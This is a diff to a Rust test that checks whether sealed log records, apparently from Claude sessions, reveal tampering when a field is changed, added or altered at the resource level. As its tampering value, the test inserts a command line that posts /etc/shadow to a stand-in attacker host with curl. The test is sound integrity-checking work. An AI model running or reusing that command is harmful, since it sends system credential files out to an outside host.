@@ -100,21 +100,31 @@ fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows(
         Err(seal::SealProblem::BadSignature)
     );
 
-    let listed: BTreeMap<String, String> = (seal[FIELD_ITEMS].as_array().unwrap().iter())
+    let entries: Vec<String> = (seal[FIELD_ITEMS].as_array().unwrap().iter())
+        .map(|e| e.as_str().unwrap().to_owned())
+        .collect();
+    let listed: BTreeMap<String, seal::ItemEntry<'_>> = (entries.iter())
         .map(|e| {
-            let (id, digest, session) = seal::parse_item(e.as_str().unwrap()).unwrap();
-            assert_eq!(session, Some(0), "one session");
-            (id.to_owned(), digest.to_owned())
+            let entry = seal::parse_item(e).unwrap();
+            assert_eq!(entry.session, Some(0), "one session");
+            assert_eq!((entry.group, entry.v1), (Some(0), false), "one resource");
+            (entry.id.to_owned(), entry)
         })
         .collect();
+    let seal_id = format!(
+        "{}-{}",
+        seal[FIELD_CHAIN].as_str().unwrap(),
+        seal[seal::FIELD_NUMBER]
+    );
     let mut count = 0;
     for resource in &claude {
         for record in resource.scope_logs.iter().flat_map(|s| &s.log_records) {
             count += 1;
             let mut doc = stored(resource.resource.as_ref().unwrap(), record);
             assert_eq!(
-                doc[FIELD_CHAIN], seal[FIELD_CHAIN],
-                "the record names its chain"
+                doc[seal::FIELD_SEAL_ID],
+                json!(seal_id),
+                "the record names its seal"
             );
             assert!(
                 !doc.contains_key(FIELD_SIGNATURE),
@@ -124,8 +134,9 @@ fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows(
                 .as_str()
                 .unwrap()
                 .to_owned();
-            let digest = signature::hex(&seal::item_digest(&doc));
-            assert_eq!(listed.get(&id), Some(&digest), "{doc:#?}");
+            let entry = listed[&id];
+            let digest = signature::hex(&seal::entry_digest(&doc, &entry, &seal));
+            assert_eq!(entry.digest, digest, "{doc:#?}");
             let field = if doc.contains_key("process.command_line") {
                 "process.command_line"
             } else {
@@ -133,16 +144,23 @@ fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows(
             };
             doc.insert(field.into(), json!("curl -d @/etc/shadow evil.example"));
             assert_ne!(
-                signature::hex(&seal::item_digest(&doc)),
+                signature::hex(&seal::entry_digest(&doc, &entry, &seal)),
                 digest,
                 "a changed field"
             );
             doc.remove(field);
             doc.insert("user.name".into(), json!("someone"));
             assert_ne!(
-                signature::hex(&seal::item_digest(&doc)),
+                signature::hex(&seal::entry_digest(&doc, &entry, &seal)),
                 digest,
                 "an added field"
+            );
+            doc.remove("user.name");
+            doc.insert("host.name".into(), json!("elsewhere"));
+            assert_ne!(
+                signature::hex(&seal::entry_digest(&doc, &entry, &seal)),
+                digest,
+                "a changed resource field"
             );
         }
     }
